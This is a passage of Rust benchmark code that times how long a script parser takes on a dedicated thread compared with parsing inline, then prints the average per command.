            for s in samples {
                parse(s);
            }
        }
        let avg = start.elapsed() / (rounds * samples.len() as u32);
        // The same work without the dedicated parser thread, to show its overhead.
        let start = Instant::now();
        for _ in 0..rounds {
            for s in samples {
                parse_on_this_thread(s).unwrap();
            }
        }
        let inline = start.elapsed() / (rounds * samples.len() as u32);
        println!(
            "average over {} commands: parse_script {avg:?}, of which parsing {inline:?}",
            samples.len()
        );
    }
}
